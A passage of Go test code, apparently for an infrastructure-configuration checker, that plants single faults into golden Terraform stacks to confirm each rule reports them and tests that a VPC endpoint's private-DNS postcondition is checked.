			t.Run(r.name+"/"+f.in+"/"+f.path, func(t *testing.T) {
				// GIVEN a golden stack with one fault
				file, err := json.Marshal(planted(t, stacks, f))
				testtools.NoError(t, err)
				// WHEN it is judged
				findings, err := Check(file, all[f.in])
				testtools.NoError(t, err)
				// THEN the rule finds it
				if !slices.ContainsFunc(findings, func(found Finding) bool { return found.Rule == r.name && found.Reason == r.reason }) {
					t.Errorf("%v: found %v", f.value, findings)
				}
			})
		}
	}
	for name := range faults {
		if !slices.ContainsFunc(rules, func(r rule) bool { return r.name == name }) {
			t.Errorf("there is no rule %s", name)
		}
	}
}

func TestEndpointsOfAnExistingVPCAreChecked(t *testing.T) {
	// GIVEN an existing VPC with an endpoint instead of internet egress, which no golden stack has
	env, stacks := *environments(t)["existing"], golden.Stacks(t)
	env.Network.Endpoints = []config.Endpoint{"ecr.api"}
	checked := func(postconditions list) bool {
		stack := planted(t, stacks, fault{"existing", "data.aws_vpc_endpoint.existing_ecr_api.lifecycle.postcondition", postconditions})
		file, err := json.Marshal(stack)
		testtools.NoError(t, err)
		findings, err := Check(file, &env)
		testtools.NoError(t, err)
		return !slices.ContainsFunc(findings, func(f Finding) bool { return f.Address == "data.aws_vpc_endpoint.existing_ecr_api" })
	}
	// THEN its private DNS must be checked
	if !checked(list{object{"condition": "${self.private_dns_enabled}"}}) || checked(list{object{"condition": "${true}"}}) {
		t.Error("an endpoint without private DNS is accepted, or one that is checked is not")
	}
}
